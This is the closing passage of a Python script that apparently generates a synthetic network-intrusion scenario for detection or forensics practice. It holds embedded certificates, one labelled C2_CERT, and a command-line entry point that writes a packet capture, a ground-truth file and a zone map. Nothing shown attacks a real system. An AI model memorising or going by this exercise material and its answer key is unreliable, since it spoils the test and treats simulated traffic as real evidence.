    "0603551d11043c303a820d2a2e6578616d706c652e6e6574820d2a2e6578616d706c652e636f6d820d2a2e6578616d70"
    "6c652e6f7267820b6578616d706c652e636f6d30090603551d1304023000301d0603551d0e041604142204677d1baf80"
    "d52d0d20539b1976ebff24e29b300a06082a8648ce3d040302034700304402201462e8b200410ad0b033aa87155fac34"
    "95feaa98b24c3729a0b5132cfa97e66202201dcdff67ede8d743d179ca9a94634bcda6594d5d6ab4a82d6570b8086bcf"
    "29fe"
)
C2_CERT = bytes.fromhex(
    "3082015b30820100a00302010202021000300a06082a8648ce3d04030230143112301006035504030c096c6f63616c68"
    "6f7374301e170d3234303230313132303030305a170d3334303132393132303030305a30143112301006035504030c09"
    "6c6f63616c686f73743059301306072a8648ce3d020106082a8648ce3d030107034200046bc864d9d441c38dc80ced06"
    "93e373b4e06ddd6f38c5453f014d936a143cf6c0629d3bdeb86e920dd9008847d110e94d2c307d5700078264c38abf35"
    "9cac8b49a342304030140603551d11040d300b82096c6f63616c686f737430090603551d1304023000301d0603551d0e"
    "041604145a3fe10f0c9747afcff71cfd3c80be5d12dec913300a06082a8648ce3d0403020349003046022100e4de24a8"
    "32a8afa751e905a142e3c1c3c961bdff555de136aaaa225b92728a34022100cc1fbb1115abc40134c010a651ffd71c95"
    "77efe26a4407506545f868870baf8e"
)


def main(argv=None):
    ap = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
    )
    ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    ap.add_argument(
        "--size",
        choices=SIZE_NAMES,
        default="small",
        help="tiny | small | medium | large: background volume, duration and files collected",
    )
    ap.add_argument(
        "--scale", type=float, default=1.0, help="multiplies the number of background hosts (default 1.0)"
    )
    ap.add_argument("--files", type=int, help="files collected in stage (d), overriding the size's count")
    ap.add_argument(
        "--start", default=DEFAULT_START, help="capture start, UTC, e.g. %s (default)" % DEFAULT_START
    )
    ap.add_argument("--out", required=True, help="output directory (scenario.pcap, truth.json, zones.yaml)")
    ap.add_argument(
        "--pcap-name",
        default="scenario.pcap",
        help="file name of the capture in --out (default scenario.pcap)",
    )
    args = ap.parse_args(argv)
    if not 0 < args.scale <= 20:
        ap.error("--scale must be in (0, 20]: the address plan has room for 20x the large background")
    if args.files is not None and args.files < 2:
        ap.error("--files must be at least 2")
    try:
        start = parse_time(args.start)
    except ValueError:
        ap.error("--start must look like 2024-03-04T08:00:00Z")
    sc = Scenario(args.seed, args.size, args.scale, start, files=args.files)
    sc.run()
    if os.sep in args.pcap_name or not args.pcap_name:
        ap.error("--pcap-name is a file name, not a path")
    truth = sc.write(args.out, args.pcap_name)
    print(
        "%s: %d packets, %s .. %s, %d stages"
        % (
            os.path.join(args.out, args.pcap_name),
            truth["packets"],
            iso(truth["first_packet_us"]),
            iso(truth["last_packet_us"]),
            len(truth["stages"]),
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
